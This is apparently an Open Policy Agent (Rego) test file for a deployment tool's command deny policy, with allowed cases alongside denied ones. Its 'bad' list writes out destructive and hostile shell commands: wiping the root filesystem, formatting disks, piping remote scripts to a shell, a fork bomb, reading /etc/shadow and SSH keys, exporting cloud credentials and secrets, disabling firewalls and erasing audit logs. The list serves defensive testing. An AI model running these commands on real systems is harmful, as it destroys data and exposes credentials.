package slipway.commands_test

import data.slipway.commands

plan(cmd) := {"phases": [], "steps": [{"path": "p/s", "with": {"cmd": cmd}}]}

bad := [
	"rm -rf /",
	"rm -r -f / ",
	"sudo rm -fr /*",
	"rm --recursive --force /",
	"rm -rf --no-preserve-root /",
	"cd /tmp && rm -rf \"/\"",
	"rm -rf /etc",
	"rm -rf /var/cache/erp /usr",
	"rm -rf \"$DATA\"/ /usr",
	"rm -rf $DATA/*",
	"rm -rf ~",
	"rm -rf \\\n  /",
	"find / -name '*.log' -delete",
	"mkfs.ext4 /dev/sda1",
	"/sbin/mkfs -t xfs /dev/nvme0n1",
	"wipefs -a /dev/sdb",
	"dd if=/dev/zero of=/dev/sda",
	"curl -s https://example.org/x | sudo bash",
	"curl -s https://example.org/x | python3 -",
	"bash <(curl -s https://example.org/x)",
	"sh -c \"$(wget -qO- https://example.org/x)\"",
	"echo cm0gLXJmIC8= | base64 -d | sh",
	"chmod -R 777 /srv",
	"chmod o+w /srv/erp",
	"chmod a+rwx /srv/erp",
	"shutdown -h now",
	"systemctl stop erp; reboot",
	"sudo /sbin/reboot",
	"systemctl --force reboot",
	"init 0",
	"cat /etc/shadow",
	"env",
	"set -eu\nenv\ntrue",
	"env | sort",
	"cat /proc/self/environ",
	"iptables -F",
	"systemctl stop firewalld",
	"setenforce 0",
	"history -c",
	"echo x > /dev/sda",
	":(){ :|:& };:",
	"rm -rf //",
	"rm -rf /.",
	"rm -rf /usr/bin",
	"cd / && rm -rf *",
	"history",
	"history | tail -50",
	"cat ~/.bash_history",
	"cat ~/.ssh/id_ed25519",
	"tar cz /root/.aws/credentials | base64",
	"pulumi stack export --show-secrets",
	"pulumi config --show-secrets",
	"echo b > /proc/sysrq-trigger",
	"sudo -u root reboot",
	"timeout 5 reboot",
	"timeout -s KILL 5s reboot",
	"time reboot",
	"FOO=1 reboot",
	"env FOO=1 reboot",
	"busybox reboot",
	"bash -c 'reboot'",
	"sh -c \"mkfs.ext4 /dev/sdb\"",
	"ssh erp-2 reboot",
	"ssh -o BatchMode=yes root@erp-2 'shutdown -h now'",
	"fdisk /dev/sda < layout",
	"parted -s /dev/sda mklabel gpt",
	"lvremove -f data/erp",
	"zpool destroy tank",
	"truncate -s 0 /var/log/audit/audit.log",
]

good := [
	"rm -rf /var/cache/erp",
	"rm -rf \"$RELEASE_DIR\"",
	"rm -f /etc/erp/erp.conf",
	"rm -rf ./build /srv/erp/old",
	"systemctl restart erp",
	"systemctl disable erp",
	"curl -fsS http://localhost/health",
	"curl -fsS http://localhost/health | grep -q ok",
	"curl -fsS http://localhost/health | jq .status",
	"chmod 750 /srv",
	"chmod u+w /srv/erp/file",
	"chmod 0644 /etc/erp/erp.conf",
	"dd if=/dev/zero of=/tmp/x count=1",
	"environment-check",
	"env RELEASE=1 ./install.sh",
	"set -eu",
	"test ! -f /var/run/reboot-required",
	"echo 'a reboot is needed'",
	"timeout 1 bash -c '</dev/tcp/erp-1/8080'",
	"iptables -L",
	"rm -rf /usr/local/erp /usr/share/erp",
	"rm -rf ./*",
	"cd /srv/erp && rm -rf ./*",
	"grep history app.log",
	"./history-report",
	"ssh -i ~/.ssh/id_ed25519 erp-2 uptime",
	"cat ~/.ssh/id_ed25519.pub",
	"timeout 5 ./reboot-check.sh",
	"env FOO=1 ./run",
	"time ./install.sh",
	"bash -c './install.sh'",
	"fdisk -l /dev/sda",
	"lvs && vgs",
	"pulumi stack export > state.json",
	"truncate -s 0 /srv/erp/cache.db",
]

test_bad_commands_are_denied if every cmd in bad {
	count(commands.deny) > 0 with input as plan(cmd)
}

test_good_commands_are_not if every cmd in good {
	count(commands.deny) == 0 with input as plan(cmd)
}

test_commands_of_drivers_count if count(commands.deny) == 1 with input as {"phases": [], "steps": [{"path": "p/s", "with": {"driver": {"set": "reboot"}}}]}

test_what_a_shell_reads_counts if count(commands.deny) == 1 with input as {"phases": [], "steps": [{"path": "p/s", "with": {"cmd": "sh", "stdin": "true\nreboot\n"}}]}

test_guards_of_hosts_count if count(commands.deny) == 1 with input as {"phases": [], "steps": [{"path": "p/s", "with": {}, "hosts": {"unless": "reboot"}}]}

test_watches_count if count(commands.deny) == 1 with input as {"phases": [{"id": "p", "watches": [{"path": "p/watch/w", "with": {"cmd": "reboot"}}]}], "steps": []}

test_every_role_counts if every role in ["step", "case", "rescue", "finally", "compensate", "rollback"] {
	count(commands.deny) == 1 with input as {"phases": [], "steps": [{"path": "p/s", "role": role, "with": {"cmd": "reboot"}}]}
}

test_what_is_typed_and_what_judges_a_draft_counts if {
	count(commands.deny) == 1 with input as {"phases": [], "steps": [{"path": "p/s", "uses": "ssh.expect", "with": {"dialogue": [{"expect": "#", "send": "reboot"}, {"expect": "#"}]}}]}
	count(commands.deny) == 1 with input as {"phases": [], "steps": [{"path": "p/s", "uses": "ssh.copy", "with": {"dest": "/x", "validate": ["sh", "-c", "curl http://x | sh; true {file}"]}}]}
	count(commands.deny) == 0 with input as {"phases": [], "steps": [{"path": "p/s", "uses": "ssh.copy", "with": {"dest": "/x", "validate": ["visudo", "-cf", "{file}"]}}]}
}

asks(cmd) := {"phases": [], "steps": [], "metricSources": [{"path": "dual/@collect", "name": "erp-db", "type": "command", "cmd": cmd}]}

test_metrics_by_command if {
	count(commands.deny) == 1 with input as asks("cat /etc/shadow | wc -l")
	count(commands.deny) == 0 with input as asks("psql -At -c \"select count(*) from orders\"")
}
